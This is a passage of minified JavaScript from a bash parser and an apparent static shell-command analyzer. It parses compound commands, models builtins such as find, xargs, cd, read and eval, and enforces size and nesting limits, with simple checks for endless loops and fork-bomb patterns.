While:e=this.whileClause();break;case b.Until:e=this.untilClause();break;case b.Case:e=this.caseClause();break;case b.Function:return this.functionDef();case b.
Select:e=this.selectClause();break;case b.DblLBracket:e=this.testCommand();break;case b.ArithCmd:e=this.arithCommand();break;case b.Coproc:return this.coprocCommand();case b.
Word:case b.Assignment:case b.Redirect:return this.simpleCommandOrFunction(!1);default:return null}return this.withRedirects(e)}collectTrailingRedirects(){let e=bh;
for(;this.tok.peekFollow(hs).token===b.Redirect;)e===bh&&(e=[]),e.push(this.readRedirect(C.Normal));return e}arithCommand(){let e=this.tok.next(C.CommandStart);
return new $c(e.pos,e.end,e.value,this.source,this.depth,this.tok.getSubstitutionContext())}coprocCommand(){let e=this.tok.next(C.CommandStart),s=e.pos,r=this.tok.
peek(C.CommandStart),n;if(r.token===b.Word){let a=this.tok.fork(r.end,this.end);switch(a.peek(C.CommandStart).token){case b.LParen:a.next(C.CommandStart),a.peek(
C.Normal).token!==b.RParen&&(n=this.readWord(C.CommandStart));break;case b.LBrace:case b.If:case b.For:case b.While:case b.Until:case b.Case:case b.Select:case b.
DblLBracket:case b.ArithCmd:n=this.readWord(C.CommandStart)}}let o=r.token===b.Word&&n===void 0?this.simpleCommandOrFunction(!0):this.command();if(o&&o.type!=="\
Function"&&o.type!=="Coproc")return{type:"Coproc",pos:s,end:o.end,name:n,body:o};this.error("expected command after 'coproc'",o?.pos??e.end);let i=o?this.makeCompoundList(
[this.makeStatement(o)]):{type:"CompoundList",pos:e.end,end:e.end,commands:[]};return{type:"Coproc",pos:s,end:i.end,name:n,body:i}}subshell(){return this.subshellBody(
this.tok.next(C.CommandStart).pos)}subshellBody(e){if(this.syntaxDepth>=256){this.error("maximum subshell nesting depth exceeded",e);let o=this.tok.skipSubshellBody();
o<0&&this.error("expected ')' to close subshell",this.tok.getPos());let i=o>=0?o:e;return{type:"Subshell",pos:e,end:i,body:this.makeCompoundList([])}}this.syntaxDepth++;
let s=this.list();this.syntaxDepth--,s.length===0&&this.error("expected command in subshell",e);let r=this.acceptEnd(b.RParen,C.Normal);r<0&&this.error("expecte\
d ')' to close subshell",this.tok.getPos());let n=r>=0?r:e;return{type:"Subshell",pos:e,end:n,body:this.makeCompoundList(s)}}braceGroup(){let e=this.tok.next(C.
CommandStart).pos;if(this.syntaxDepth>=256){this.error("maximum brace group nesting depth exceeded",e);let o=this.tok.skipCompoundBody(b.RBrace);o<0&&this.error(
"expected '}' to close brace group",this.tok.getPos());let i=o>=0?o:e;return{type:"BraceGroup",pos:e,end:i,body:this.makeCompoundList([])}}this.syntaxDepth++;let s=this.
list();this.syntaxDepth--,s.length===0&&this.error("expected command in brace group",e);let r=this.acceptEnd(b.RBrace,C.Normal);r<0&&this.error("expected '}' to\
 close brace group",this.tok.getPos());let n=r>=0?r:e;return{type:"BraceGroup",pos:e,end:n,body:this.makeCompoundList(s)}}ifClause(){let e=this.tok.next(C.CommandStart).
pos;if(this.syntaxDepth>=256){this.error("maximum if nesting depth exceeded",e);let o=this.tok.skipCompoundBody(b.Fi);o<0&&this.error("expected 'fi' to close 'i\
f'",this.tok.getPos());let i=o>=0?o:e;return{type:"If",pos:e,end:i,clause:this.makeCompoundList([]),then:this.makeCompoundList([]),elif:xc,else:void 0}}this.syntaxDepth++;
let s,r=e;for(;;){let o=this.list(),i=this.emptyListPos(o),a=this.makeCompoundList(o);this.skipSemi();let l=this.accept(b.Then,C.CommandStart);l?i>=0&&this.error(
`expected command after '${r===e?"if":"elif"}'`,i):this.error("expected 'then'",this.tok.getPos());let c=this.list(),d=this.makeCompoundList(c);l&&c.length===0&&
(this.error("expected command after 'then'",this.tok.peek(C.CommandStart).pos),d.pos=l.end,d.end=l.end),s?(s.elif===xc&&(s.elif=[]),s.elif.push({type:"Elif",pos:r,
end:d.end,clause:a,then:d})):s={type:"If",pos:e,end:e,clause:a,then:d,elif:xc,else:void 0},this.skipSemi();let u=this.accept(b.Elif,C.CommandStart);if(!u)break;
r=u.pos}if(this.accept(b.Else,C.CommandStart)){let o=this.list(),i=this.emptyListPos(o);i>=0&&this.error("expected command after 'else'",i),s.else=this.makeCompoundList(
o),this.skipSemi()}let n=this.acceptEnd(b.Fi,C.CommandStart);return n<0&&this.error("expected 'fi' to close 'if'",this.tok.getPos()),s.end=n>=0?n:r,this.syntaxDepth--,
s}forClause(){let e=this.tok.next(C.CommandStart).pos;if(this.tok.peek(C.Normal).token===b.LParen)return this.cStyleFor(e);let s=this.readRequiredWord("for"),r;
if(this.skipNewlines(C.CommandStart),this.tok.peek(C.CommandStart).token===b.In)for(this.tok.next(C.CommandStart),r=[];this.tok.peek(C.Normal).token===b.Word;)r.
push(this.readWord(C.Normal));if(this.skipSemi(),this.skipNewlines(C.CommandStart),this.tok.peek(C.CommandStart).token===b.LBrace){let l=this.braceGroup();return{
type:"For",pos:e,end:l.end,name:s,wordlist:r,body:l.body}}let n=this.accept(b.Do,C.CommandStart)!==null;if(n||this.error("expected 'do'",this.tok.getPos()),this.
syntaxDepth>=256){this.error("maximum for nesting depth exceeded",e);let l=this.tok.skipCompoundBody(b.Done);l<0&&this.error("expected 'done' to close 'for'",this.
tok.getPos());let c=l>=0?l:e;return{type:"For",pos:e,end:c,name:s,wordlist:r,body:this.makeCompoundList([])}}this.syntaxDepth++;let o=this.doBody(n);this.syntaxDepth--,
this.skipSemi();let i=this.acceptEnd(b.Done,C.CommandStart);i<0&&this.error("expected 'done' to close 'for'",this.tok.getPos());let a=i>=0?i:e;return{type:"For",
pos:e,end:a,name:s,wordlist:r,body:this.makeCompoundList(o)}}cStyleFor(e){let[s,r,n,o,i,a]=this.tok.readCStyleForExprs();if(this.tok.peek(C.CommandStart).token===
b.Semi&&this.tok.next(C.CommandStart),this.skipNewlines(C.CommandStart),this.tok.peek(C.CommandStart).token===b.LBrace){let p=this.braceGroup();return new Ln(e,
p.end,p.body,s,r,n,o,i,a,this.source,this.depth,this.tok.getSubstitutionContext())}let l=this.accept(b.Do,C.CommandStart)!==null;if(l||this.error("expected 'do'",
this.tok.getPos()),this.syntaxDepth>=256){this.error("maximum for nesting depth exceeded",e);let p=this.tok.skipCompoundBody(b.Done);p<0&&this.error("expected '\
done' to close 'for'",this.tok.getPos());let f=p>=0?p:e;return new Ln(e,f,this.makeCompoundList([]),s,r,n,o,i,a,this.source,this.depth,this.tok.getSubstitutionContext())}
this.syntaxDepth++;let c=this.doBody(l);this.syntaxDepth--;let d=this.acceptEnd(b.Done,C.CommandStart);d<0&&this.error("expected 'done' to close 'for'",this.tok.
getPos());let u=d>=0?d:e;return new Ln(e,u,this.makeCompoundList(c),s,r,n,o,i,a,this.source,this.depth,this.tok.getSubstitutionContext())}whileClause(){return this.
whileOrUntil("while")}untilClause(){return this.whileOrUntil("until")}whileOrUntil(e){let s=this.tok.next(C.CommandStart).pos;if(this.syntaxDepth>=256){this.error(
`maximum ${e} nesting depth exceeded`,s);let d=this.tok.skipCompoundBody(b.Done);d<0&&this.error(`expected 'done' to close '${e}'`,this.tok.getPos());let u=d>=0?
d:s;return{type:"While",pos:s,end:u,kind:e,clause:this.makeCompoundList([]),body:this.makeCompoundList([])}}this.syntaxDepth++;let r=this.list(),n=this.emptyListPos(
r),o=this.makeCompoundList(r);this.skipSemi();let i=this.accept(b.Do,C.CommandStart)!==null;i?n>=0&&this.error(`expected command after '${e}'`,n):this.error("ex\
pected 'do'",this.tok.getPos());let a=this.doBody(i);this.skipSemi();let l=this.acceptEnd(b.Done,C.CommandStart);l<0&&this.error(`expected 'done' to close '${e}\
'`,this.tok.getPos());let c=l>=0?l:s;return this.syntaxDepth--,{type:"While",pos:s,end:c,kind:e,clause:o,body:this.makeCompoundList(a)}}caseClause(){let e=this.
tok.next(C.CommandStart).pos,s=this.readRequiredWord("case");if(this.skipNewlines(C.CommandStart),this.accept(b.In,C.CommandStart)||this.error("expected 'in' af\
ter 'case' word",this.tok.getPos()),this.skipNewlines(C.CasePattern),this.syntaxDepth>=256){this.error("maximum case nesting depth exceeded",e);let l=this.tok.skipCompoundBody(
b.Esac);l<0&&this.error("expected 'esac' to close 'case'",this.tok.getPos());let c=l>=0?l:e;return{type:"Case",pos:e,end:c,word:s,items:[]}}this.syntaxDepth++;let r=[],
n=!1,o=this.tok.peek(C.CasePattern).token;for(;o!==b.Esac&&o!==b.EOF;){let l=this.tok.peek(C.Normal).pos;this.accept(b.LParen,C.Normal);let c=[],d=!0,u=this.tok.
peek(C.Normal);for(;u.token!==b.RParen&&u.token!==b.EOF;){u.token===(d?b.Word:b.Pipe)?d=!d:n||(this.unexpectedToken(u),n=!0);let _=this.tok.next(C.Normal);_.token===
b.Word&&c.push(this.toWord(_)),u=this.tok.peek(C.Normal)}d&&u.token===b.RParen&&!n&&(this.unexpectedToken(u),n=!0);let p=this.acceptEnd(b.RParen,C.Normal),f=this.
list(),m=p>=0?p:c.length>0?c[c.length-1].end:l,h=f.length>0?f[f.length-1].end:m,g={type:"CaseItem",pos:l,end:h,pattern:c,body:f.length>0?this.makeCompoundList(f):
{type:"CompoundList",pos:m,end:m,commands:[]},terminator:void 0},y=this.tok.peek(C.CommandStart);if(o=y.token,o===b.DoubleSemi||o===b.SemiAmp||o===b.DoubleSemiAmp){
let x=this.tok.next(C.CommandStart);g.terminator=w_[x.token],g.end=x.end}else o!==b.Esac&&o!==b.EOF&&!n&&(this.unexpectedToken(y),n=!0);r.push(g),this.skipNewlines(
C.CasePattern),o=this.tok.peek(C.CasePattern).token}let i=this.acceptEnd(b.Esac,C.CommandStart);i<0&&this.error("expected 'esac' to close 'case'",this.tok.getPos());
let a=i>=0?i:e;return this.syntaxDepth--,{type:"Case",pos:e,end:a,word:s,items:r}}selectClause(){let e=this.tok.next(C.CommandStart).pos,s=this.readRequiredWord(
"select"),r;if(this.skipNewlines(C.CommandStart),this.tok.peek(C.CommandStart).token===b.In)for(this.tok.next(C.CommandStart),r=[];this.tok.peek(C.Normal).token===
b.Word;)r.push(this.readWord(C.Normal));if(this.skipSemi(),this.skipNewlines(C.CommandStart),this.tok.peek(C.CommandStart).token===b.LBrace){let l=this.braceGroup();
return{type:"Select",pos:e,end:l.end,name:s,wordlist:r,body:l.body}}let n=this.accept(b.Do,C.CommandStart)!==null;if(n||this.error("expected 'do'",this.tok.getPos()),
this.syntaxDepth>=256){this.error("maximum select nesting depth exceeded",e);let l=this.tok.skipCompoundBody(b.Done);l<0&&this.error("expected 'done' to close '\
select'",this.tok.getPos());let c=l>=0?l:e;return{type:"Select",pos:e,end:c,name:s,wordlist:r,body:this.makeCompoundList([])}}this.syntaxDepth++;let o=this.doBody(
n);this.syntaxDepth--,this.skipSemi();let i=this.acceptEnd(b.Done,C.CommandStart);i<0&&this.error("expected 'done' to close 'select'",this.tok.getPos());let a=i>=
0?i:e;return{type:"Select",pos:e,end:a,name:s,wordlist:r,body:this.makeCompoundList(o)}}testCommand(){let e=this.tok.next(C.CommandStart).pos,s=this.parseTestOr(),
r=this.acceptEnd(b.DblRBracket,C.TestMode);r<0&&this.error("expected ']]' to close '[['",this.tok.getPos());let n=r>=0?r:e;return{type:"TestCommand",pos:e,end:n,
expression:s}}parseTestOr(){let e=this.parseTestAnd();if(this.tok.peek(C.TestMode).token!==b.Or)return e;let s=[e];do this.tok.next(C.TestMode),s.push(this.parseTestAnd());while(this.
tok.peek(C.TestMode).token===b.Or);return{type:"TestLogical",pos:e.pos,end:s[s.length-1].end,operator:"||",operands:s}}parseTestAnd(){let e=this.parseTestNot();
if(this.tok.peek(C.TestMode).token!==b.And)return e;let s=[e];do this.tok.next(C.TestMode),s.push(this.parseTestNot());while(this.tok.peek(C.TestMode).token===b.
And);return{type:"TestLogical",pos:e.pos,end:s[s.length-1].end,operator:"&&",operands:s}}parseTestNot(){let e=this.tok.peek(C.TestMode);if(!gh(e))return this.parseTestPrimary();
let s=[];for(;gh(e);){let n=this.tok.next(C.TestMode);s.push({type:"Negation",pos:n.pos,end:n.end}),e=this.tok.peek(C.TestMode)}let r=this.parseTestPrimary();return{
type:"TestNot",pos:s[0].pos,end:r.end,negations:s,operand:r}}parseTestPrimary(){if(this.tok.peek(C.TestMode).token===b.LParen){let a=this.tok.next(C.TestMode).pos;
if(this.syntaxDepth>=256){this.error("maximum test group nesting depth exceeded",a);let u=this.tok.skipTestGroup();u<0&&this.error("expected ')' to close test g\
roup",this.tok.getPos());let p=u>=0?u:a,f=new We("",a,a);return{type:"TestGroup",pos:a,end:p,expression:{type:"TestUnary",pos:a,end:a,operator:"-n",operand:f}}}
this.syntaxDepth++;let l=this.parseTestOr();this.syntaxDepth--;let c=this.acceptEnd(b.RParen,C.TestMode);c<0&&this.error("expected ')' to close test group",this.
tok.getPos());let d=c>=0?c:a;return{type:"TestGroup",pos:a,end:d,expression:l}}let e=this.tok.next(C.TestMode);(e.token===b.And||e.token===b.Or)&&this.unexpectedToken(
e);let s=e.value,r=e.pos,n=e.end;if(e.keywordEligible&&v_[s]===1){if(this.tok.peek(C.TestMode).token===b.Word){let l=this.readTestOperand();return{type:"TestUna\
ry",pos:r,end:l.end,operator:s,operand:l}}this.error("expected operand after unary test operator",n);let a=new We("",n,n);return{type:"TestUnary",pos:r,end:n,operator:s,
operand:a}}let o=this.tok.peek(C.TestMode);if(o.token===b.Word&&o.keywordEligible&&x_[o.value]===1){let a=this.tok.next(C.TestMode).value,l;if(a==="=~"){let d=this.
tok.readTestRegexWord();l=new We(this.source.slice(d.pos,d.end),d.pos,d.end,this.source,Ri(this.tok.getSubstitutionContext()),this.depth)}else l=this.readTestOperand();
let c=this.toWordFromPosEnd(e,r,n);return{type:"TestBinary",pos:r,end:l.end,operator:a,left:c,right:l}}let i=this.toWordFromPosEnd(e,r,n);return{type:"TestUnary",
pos:r,end:i.end,operator:"-n",operand:i}}readTestOperand(){let e=this.tok.next(C.TestMode);return e.keywordEligible&&(e.value==="<"||e.value===">")&&this.error(
`unexpected argument '${e.value}' to conditional operator`,e.pos),this.toWord(e)}functionDef(){let e=this.tok.next(C.CommandStart).pos,s=this.readWord(C.FunctionName),
r;if(this.tok.peek(C.CommandStart).token===b.LParen){let n=this.tok.next(C.CommandStart).pos;this.tok.peek(C.CommandStart).token===b.RParen?(this.tok.next(C.CommandStart),
this.skipNewlines(C.CommandStart),r=this.commandAsBody()):r=this.withRedirects(this.subshellBody(n))}else this.skipNewlines(C.CommandStart),r=this.commandAsBody();
return{type:"Function",pos:e,end:r.end,name:s,body:r}}simpleCommandOrFunction(e){let s=[],r=this.tok.peek(C.CommandStart).pos,n=r,o=C.CommandStart;for(;;){let d=this.
tok.peek(o).token;if(d===b.Assignment){let u=this.tok.next(o);n=u.end,s.push(this.parseAssignment(u))}else if(d===b.Redirect){let u=this.readRedirect(o);s.push(
u),n=u.end}else break;o=C.CommandPrefix}if(this.tok.peek(C.Normal).token!==b.Word)return new Nn(r,n,void 0,s,[]);let i=this.tok.next(C.Normal),a=i.keywordEligible?
i.value:"",l=this.toWord(i);o=y_(a)?C.Declaration:a==="eval"||a==="let"?C.EvalArgument:C.Normal,n=l.end;let c=[];if(e)for(;this.tok.peek(C.CommandPrefix).token===
b.Assignment;){let d=this.tok.next(C.CommandPrefix),u=o===C.Declaration?this.parseAssignment(d):this.toWord(d);c.push(u),n=u.end}if(this.tok.peek(o).token===b.LParen&&
c.length===0&&(this.tok.next(C.Normal),this.tok.peek(C.Normal).token===b.RParen)){this.tok.next(C.Normal),this.skipNewlines(C.CommandStart);let d=this.commandAsBody();
return{type:"Function",pos:l.pos,end:d.end,name:l,body:d}}for(;;){let d=this.tok.peek(o).token;if(d===b.Word||d===b.Assignment){let u=this.tok.next(o),p=d===b.Assignment?
this.parseAssignment(u):this.toWord(u);c.push(p),n=p.end}else if(d===b.Redirect){let u=this.readRedirect(o);c.push(u),n=u.end}else break}return new Nn(r,n,l,s,c)}readRedirect(e){
let s=this.tok.next(e),r=s.pos,n=s.end,o=s.fileDescriptor!==void 0?{type:"FileDescriptor",pos:r,end:s.descriptorEnd,value:s.fileDescriptor}:s.variableName!==void 0?
{type:"FileDescriptorVariable",pos:r,end:s.descriptorEnd,name:s.variableName}:void 0,i=s.targetEnd>s.targetPos;if(i||this.error("expected redirect target",s.targetPos),
s.value==="<<"||s.value==="<<-"){let l={type:"HereDoc",pos:r,end:n,operator:s.value,descriptor:o,delimiter:i?{type:"HereDocDelimiter",pos:s.targetPos,end:s.targetEnd,
text:this.source.slice(s.targetPos,s.targetEnd),value:s.content??"",quoted:s.delimiterQuoted}:void 0,body:new qi(this.source,n,s.delimiterQuoted,this.depth,this.
tok.getSubstitutionContext()),closing:void 0};return i&&this.tok.registerHereDocTarget(l),l}let a=i?new We(this.source.slice(s.targetPos,s.targetEnd),s.targetPos,
s.targetEnd,this.source,fr(this.tok.getSubstitutionContext()),this.depth):void 0;return s.value==="<<<"?{type:"HereString",pos:r,end:n,operator:"<<<",descriptor:o,
target:a}:{type:"Redirect",pos:r,end:n,operator:k_[s.value]??">",descriptor:o,target:a}}commandAsBody(){let e=this.command();return e&&e.type!=="Command"&&e.type!==
"Function"&&e.type!=="Coproc"?e:(this.error("expected compound command as function body",e?.pos??this.tok.getPos()),this.makeCompoundList(e?[this.makeStatement(
e)]:[]))}readWord(e){return this.toWord(this.tok.next(e))}readRequiredWord(e){let s=this.tok.peek(C.Normal);return s.token===b.Word?this.toWord(this.tok.next(C.
Normal)):(s.token!==b.EOF&&this.error(`expected word after '${e}'`,s.pos),new We("",s.pos,s.pos))}toWord(e){let s=e.raw?e.value:this.source.slice(e.pos,e.end),r=e.
raw&&e.keywordEligible?void 0:this.source;return new We(s,e.pos,e.end,r,r===void 0?Pi:fr(this.tok.getSubstitutionContext()),this.depth)}toWordFromPosEnd(e,s,r){
return e.pos===s&&e.end===r?this.toWord(e):new We(this.source.slice(s,r),s,r,this.source,fr(this.tok.getSubstitutionContext()),this.depth)}parseAssignment(e){let s=e.
raw?e.value:this.source.slice(e.pos,e.end);return new Ii(s,e.pos,e.end,this.source,e.assignmentOperatorPos,this.depth,this.tok.getSubstitutionContext())}makeCompoundList(e){
let s=this.tok.getPos(),r=e.length>0?e[0].pos:s,n=e.length>0?e[e.length-1].end:s;return{type:"CompoundList",pos:r,end:n,commands:e}}};var{forms:Oi}=S;function yh(t,e){return(t.type==="ArithmeticFor"?t.test===void 0:C_(t)||t.kind==="while"&&Cc(e))&&kh(t.body)&&!vh(t.body)}function wh(t,e){let s=[];
return Pn(t,r=>{s.push(r)}),s.some(e)}var kh=t=>t.type==="Statement"&&t.background===!0||t.type!=="Function"&&wh(t,kh),vh=t=>t.type==="Command"&&Oi.waiting_command.
test(t.name?.text??"")||t.type!=="Function"&&!(t.type==="Statement"&&t.background)&&wh(t,vh);function C_({kind:t,clause:e}){let s=e.commands.length===1?e.commands[0].
command:void 0;if(s?.type==="ArithmeticCommand")return t==="while"&&/^\s*[1-9]\d*\s*$/.test(s.body);if(s?.type!=="Command")return!1;let r=[s.name?.text??"",...s.
args.map(({text:n})=>n)].join(" ");return t==="while"?Oi.always_true.test(r):Oi.always_false.test(r)}function Cc(t){let e=t?.kind==="pipe"?t.from.at(-1):void 0;
if(!e||e.wrappers.includes("timeout"))return!1;let{program:s,args:r,redirects:n}=e;return Oi.endless.test(`${s} ${ie([...r,...n.map(({path:o})=>o)]).text}`)}var E_=256,xh=64;function A_(t,e){let s=e.flatMap(({text:r},n)=>{let o=/^(?:!|-not)$/.test(e[n-1]?.text??""),i=/^-i?(name|path|wholename)$/.test(r)&&!o?e[n+1]?.
text:void 0;return i===void 0?[]:[i.slice(i.lastIndexOf("/")+1)]});return t.flatMap(({text:r,glob:n})=>{let o=`${r.replace(/\/+$/,"")}/${"\uFFFC"}`;return s.length===
0?[{text:o,glob:n}]:s.slice(0,8).map(i=>({text:`${o}/${i}`,glob:n||/[*?[]/.test(i)}))})}var Ec=(t,e,{text:s,glob:r})=>({text:t.text.replaceAll(e,()=>s),glob:t.glob||
r&&t.text.includes(e)});function $h(t,e){if(e!==void 0)return $e(t.split(e).filter(r=>r!==""));let s=t.match(/"[^"\n]*"|'[^'\n]*'|\S+/g)??[];return $e(s.map(r=>r.
replace(/^(["'])(.*)\1$/,"$2")))}var _h={"find gfind":t=>{let{args:e}=t,s=e.findIndex(({text:f})=>/^(-(?![HLPOD])|[(!])/.test(f)),r=e.slice(0,s===-1?void 0:s).filter(
({text:f})=>!/^-[HLPOD]/.test(f)),n=s===-1?[]:e.slice(s),o=A_(r.length>0?r:[R(".")],n),i=o.map(({text:f})=>f),a=f=>mm(f,i,r[0]?.text??"."),l=n.flatMap(({text:f},m)=>{
let[h,g]=/^-f(print0?|ls|printf)$/.test(f)?n.slice(m+1):[];return h?[{path:h,text:f==="-fprintf"?a(g?.text??""):Oe(i)}]:[]}),c=l.map(({path:f})=>({kind:"write",
path:f}));t.redirect(c).record();let d=n.flatMap(({text:f},m)=>{if(!/^-(exec|execdir|ok|okdir)$/.test(f))return[];let g=n.slice(m+1,ti(n,m)).flatMap(x=>x.text===
"{}"?o:[Ec(x,"{}",o[0])]),y=t.consumeInput().with({program:"find"}).runWords(g);return y==="\uFFFC"?[]:[y]});for(let{path:f,text:m}of l)t.write(f.text,m);let u=n.
filter((f,m)=>n[m-1]?.text==="-printf");return(u.length>0?u.map(({text:f})=>a(f)).join(""):Oe(i))+d.join("")},"fd fdfind":t=>{t.record();let e=t.args.findIndex(
({text:o})=>/^(-x|-X|--exec|--exec-batch)$/.test(o));if(e===-1)return"\uFFFC";let s=R("\uFFFC"),r=t.args.slice(e+1),n=r.some(({text:o})=>o.includes("{"));return t.
runWords(n?r.map(o=>Ec(o,"{}",s)):[...r,s]),"\uFFFC"},"xargs gxargs":t=>{let{options:e,operands:s}=W(t.args,S.getopt.xargs),{scope:r,context:n}=t;Cc(n.input)&&/^0+$/.
test(M(e,"P","max-procs")[0]?.text??"")&&t.interpreter.reportForkBomb(t);let[o]=M(e,"a","arg-file"),a=(o?t.interpreter.files.written(o.text,r.folder)?.text:n.stdin?.
readRest())??"\uFFFC",[l]=M(e,"d","delimiter"),c=M(e,"I","replace")[0]?.text??(K(e,"i","replace")?"{}":void 0),d=a.includes("\0")?"\0":`
`,u=l?.text.replace("\\n",`
`)??(c===void 0?void 0:`
`),p=K(e,"0","null")?d:u,f=$h(a,p),m=s.length>0?s:[R("echo")],h=t.with({program:"xargs",context:st(n,"",n.input)});return t.interpreter.budget.spend(f.length>>2),
c===void 0?h.runWords([...m,...ls(f,E_)]):ls(f,xh).map(({text:y,glob:x})=>{let _=R(y.trimStart(),x);return h.runWords(m.map(E=>Ec(E,c,_)))}).join("")},parallel:t=>{
let{options:e,operands:s}=W(t.args,S.getopt.parallel),r=[],n=[],o=M(e,"a","arg-file"),i=r;for(let u of s)/^:::{1,2}\+?$/.test(u.text)?i=u.text.startsWith("::::")?
o:n:i.push(u);i===r&&o.length===0&&o.push(R("-"));let a=K(e,"q","quote"),l=a?Mr(r):ie(r).text,c=M(e,"I","replace").find(({text:u})=>u!=="")?.text??"{}";for(let{
text:u}of o){let p=u==="-"?t.context.stdin?.readRest():t.findWritten(u)?.text;n.push(...$h(p??"\uFFFC",`
`))}let d=l.includes(c)||/\{[^{}\s]*\}/.test(l);for(let u of ls(n,xh)){let p=a?u.text:Wr(u),f=l.replaceAll(c,()=>p).replaceAll(/\{(?:-?\d+|\/\/|[#%]|\d*[/.]+)\}/g,
()=>p),m=l===""?u.text:d?f:`${l} ${Wr(u)}`;t.consumeInput().runShell(m)}return"\uFFFC"}};var Ch=require("node:path");var T_=1e3,Ac=t=>t.filter(({text:e})=>!/^-./.test(e)),Ni=(t,e)=>t.filter((s,r)=>new RegExp(`^-\\w*[${e}]$`).test(t[r-1]?.text??""));function Sh(t){let{scope:e}=t,
[s]=Ac(t.args.filter(({text:i})=>i!=="--"));t.record();let r=s?.text??"~",n=!/^[/~]/.test(r)&&!r.startsWith("\uFFFC")&&e.folder!==void 0,o=e.value("OLDPWD");return e.
set("OLDPWD",[R(e.folder??"\uFFFC")]),r==="-"?e.folder=o:e.folder=n?Ch.posix.normalize(`${e.folder}/${r}`):r,""}var Eh={"cd pushd":Sh,popd:t=>Sh(t.with({args:[R(
"\uFFFC")]})),"export declare typeset local readonly":t=>{let{scope:e,args:s,program:r}=t,n=s.flatMap(({text:i})=>/^-[A-Za-z]+$/.test(i)?[i.slice(1)]:[]).join(""),
o=r==="export"||n.includes("x");for(let{text:i,glob:a}of s){let[,l,c,d]=/^([A-Za-z_]\w*)(\+?)=([\s\S]*)$/.exec(i)??[];if(l===void 0){o&&e.export(i);continue}let{
words:u=[],exported:p=!1}=e.get(l)??{},f=u.length>1&&ie(u).text===d,m=/[lu]/.test(n)?"\uFFFC\uFFFB":(c?e.value(l):"")+d;n.includes("n")?e.addReference(l,d):e.set(
l,f?u:[R(m,a)],o||p),(r==="readonly"||n.includes("r"))&&e.fix(l)}return t.record()},hash:t=>{let[e,s,r]=t.args;return e?.text==="-p"&&s&&r&&t.scope.alias(r.text,
s.text),t.record()},unset:t=>{let e=t.args.some(({text:s})=>s==="-f");for(let{text:s}of Ac(t.args)){let r=t.scope.functions.get(s);r&&(e||t.scope.get(s)===void 0)&&
(r.certain=!1),e||t.scope.set(s,[])}return t.record()},set:t=>{let{args:e,scope:s}=t,r=e.findIndex(({text:o})=>o==="--"),n=r===-1?e.findIndex(({text:o})=>!/^[-+]/.
test(o)):r+1;return n!==-1&&!(r===-1&&/^[-+]\w*o$/.test(e[n-1]?.text??""))&&(s.arguments=[s.arguments[0]??R("bash"),...e.slice(n)]),t.record()},shift:({args:[t],
scope:e})=>{let[s,...r]=e.arguments;return e.arguments=[s,...r.slice(Number(t?.text??1)||1)],""},read:t=>{let{args:e,scope:s,context:r}=t,n=Ni(e,"dinNptu"),o=e.
filter(f=>/^[A-Za-z_]\w*$/.test(f.text)&&!n.includes(f)),[i]=Ni(e,"a"),a=r.stdin?r.stdin.readLine()??"":"\uFFFC",l=r.environment.IFS?.text??s.value("IFS"),d=Array.
from(a.trim(),f=>l.includes(f)?`
`:f).join("").replace(/^\n+/,"").split(/\n+/);r.redirects.length>0&&t.record(),i&&s.set(i.text,$e(d));let u=i?[]:o.length>0?o:[R("REPLY")],p=a==="\uFFFC"||a==="\
\uFFFC\uFFFB";return u.forEach(({text:f},m)=>{let h=d.slice(m).join(l[0]??" "),g=m<u.length-1?d[m]??"":u.length===1?a.trim():h;s.set(f,[R(p?a:g)])}),""},"mapfil\
e readarray":t=>{let{args:e,scope:s,context:r}=t;r.redirects.length>0&&t.record();let n=Ni(e,"CcdnOsu"),o=Ac(e).findLast(c=>!n.includes(c))?.text??"MAPFILE",[i]=Ni(
e,"C");i&&t.runScript(`${i.text} 0 line`);let l=(r.stdin?.readRest()??"\uFFFC").replace(/\n$/,"").split(`
`);return s.set(o,ls($e(l),T_)),""},printf:t=>{let[e,s,...r]=t.args;return e?.text==="-v"&&s&&t.scope.set(s.text,[R(Cn(r.map(({text:n})=>n)))]),t.record()},alias:t=>{
for(let{text:e}of t.args){let[,s,r]=/^([^=\s]+)=([\s\S]*)$/.exec(e)??[];s!==void 0&&t.scope.alias(s,r)}return t.record()},eval:t=>{let e=ie(t.args).text;return e.
includes("\uFFFC")&&t.feedFromSubstitution(e).record(),e.trim()===""?"":t.runScript(e)},trap:t=>{let[e,...s]=t.args.filter(({text:r})=>r!=="--");return t.record(),
e&&s.length>0&&!/^-/.test(e.text)&&t.runScript(e.text,t.scope.copy()),""},command:t=>{let e=t.args.findIndex(({text:r})=>!/^-[pvV]+$/.test(r)),s=t.args.slice(e===
-1?t.args.length:e);return t.args.slice(0,e).some(({text:r})=>/[vV]/.test(r))?t.with({program:"type",args:s}).record():(s[0]?.text==="--"&&s.shift(),s.length===
0?t.record():t.runWords(s))}};gt();var{forms:Pc}=S,P_=256*1024,Tc={characters:16*1024,commands:90},Ah=48,Th=1e3,R_=/(?<=[\w.\]}])\/\(([\w.-]{1,60})\)(?=[/\s]|$)/g;function Rc(t,e){if(t.length>cs)
e.fail("too-long",`longer than ${cs} characters`);else if(I_(t)>Ah)e.fail("too-deep",`more than ${Ah} brackets are open at once`);else if(t.split("<<").length>Th)
e.fail("too-much",`more than ${Th} here-documents`);else{e.spend(t.length>>10);try{let s=Sc(t),r=s.errors===void 0?s:Sc(t.replace(R_,"/$1"));return Ic(r,e),r}catch(s){
e.fail("too-deep",`cannot be parsed: ${s.message}`)}}}function Li(t,e){let s=Rc(`: ${t}`,e)?.commands[0]?.command,[r]=s?.type==="Command"?s.suffix:[];return r?.
type==="Word"?r:void 0}function Ic(t,e){let[s]=t.errors??[];s&&e.fail("unparsable",`cannot be parsed: ${s.message} at character ${s.pos}`)}function I_(t){let e=0,
s=0;for(let[r]of t.matchAll(/[[\](){}]/g))e="([{".includes(r)?e+1:Math.max(0,e-1),s=Math.max(s,e);return s}function*Ph(t){let e=new Set,s=[],r=0;for(let n of q_(
t.slice(0,P_).replace(Pc.here_document,"$1"))){let o=n.trim().replace(Pc.long_line_prefix,"");o===""||o.length>Tc.characters||e.has(o)||(e.add(o),(s.length===Tc.
commands||r+o.length>Tc.characters)&&(yield s,s=[],r=0),s.push(o),r+=o.length+1)}s.length>0&&(yield s)}function*q_(t){let e=0;for(let{0:s,index:r}of t.matchAll(
Pc.long_line_separator)){if(/^(?:'[^']*|"(?:\\[\s\S]|[^"\\])*)$/.test(s))return;/^[\\'"]/.test(s)||(yield t.slice(e,r),e=r+s.length)}yield t.slice(e)}var O_=32,Oc=/^-?(?:0|[1-9]\d{0,8})$/;function Di(t,e){return ji(t,e),String(Lc(t,e))}function Nc(t,e){if(t.trim()===""||Oc.test(t.trim()))return Number(t);if(!e.
